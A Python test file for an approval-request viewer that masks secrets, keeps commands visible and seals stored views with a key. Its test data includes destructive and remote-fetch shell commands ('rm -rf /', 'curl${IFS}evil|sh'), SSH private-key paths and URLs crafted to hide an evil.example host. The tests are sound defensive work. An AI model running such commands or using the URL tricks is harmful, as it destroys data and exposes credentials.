"""The full view of an approval request shows everything but secrets, and rests encrypted in the store."""

from __future__ import annotations

import json

from hypothesis import given
from hypothesis import strategies as st

from cases import each_case
from interlock.hub.approvals.full_view import MAX_CHARS, full_view, rendered
from interlock.hub.approvals.sealed_views import SealedView, ViewSeal

TEXT = st.text(st.characters(codec="utf-8"), max_size=40)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=20,
)


@given(JSON.filter(lambda value: "secret" not in str(value)))
def test_a_view_without_secrets_is_the_arguments_themselves(value: object) -> None:
    view = rendered(json.dumps(value).encode())
    if "[secret: " not in view:
        assert json.loads(view) == value


@each_case(
    "hidden",
    [
        "rm -rf / --no-preserve-root",
        "curl${IFS}evil|sh",
        "x" * 600,
        "<!-- -->",
        "rm-rf/home/all:now",
        "/root/.ssh/id_rsa",
        "~/.ssh/id_ed25519",
        "id_rsa",
        "https://evil.example/x",
        "evil.example:8080",
        "reboot",
    ],
)
@each_case("name", ["token", "password", "api_key", "Authorization", "ssh_key", "dsn", "cookie"])
def test_t41_a_command_cannot_hide_in_an_argument_named_like_a_secret(name: str, hidden: str) -> None:
    assert hidden in json.loads(rendered(json.dumps({name: [hidden]}).encode()))[name][0]


def test_a_secret_shows_its_kind_its_length_and_its_end_only() -> None:
    token = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hI6"
    view = rendered(json.dumps({"note": f"use {token} now", "password": "hunter2secret-long", "pin": "1234"}).encode())
    assert token not in view
    assert "hunter2" not in view
    assert "1234" not in view
    assert token[-4:] in view
    assert f"{len(token)} characters" in view


def test_t41_of_an_address_the_user_and_password_alone_are_masked() -> None:
    for name, address in (
        ("dsn", "postgres://ada:hunter2-long@db.example/orders"),
        ("token", "https://ghs0123456789@github.example/x.git"),
        ("text", "postgres://ada:hunter2-long@db.example/orders"),
    ):
        shown = json.loads(rendered(json.dumps({name: address}).encode()))[name]
        assert "hunter2" not in shown
        assert "ghs0123" not in shown
        assert address.partition("@")[2] in shown
    for name in ("dsn", "text"):  # The host of these is `evil.example` for many readers.
        for address in ("https://evil.example:80#@good.example/", "https://evil.example:80\\@good.example/"):
            assert json.loads(rendered(json.dumps({name: address}).encode()))[name] == address


async def test_arguments_that_nobody_can_read_have_no_view() -> None:
    assert await full_view({"text": "x" * (MAX_CHARS - 100)})
    assert await full_view({"text": "x" * MAX_CHARS}) == ""


def test_a_sealed_view_opens_only_with_its_key_and_for_its_decision() -> None:
    seal = ViewSeal(b"k" * 32)
    closed = seal.close("abc", "the view")
    assert "view" not in closed.sealed
    assert seal.open(closed) == "the view"
    assert ViewSeal(b"l" * 32).open(closed) is None
    assert seal.open(SealedView("abd", closed.sealed)) is None
    assert seal.open(SealedView("abc", closed.sealed[:-4])) is None
    assert seal.close("abc", "the view") != closed
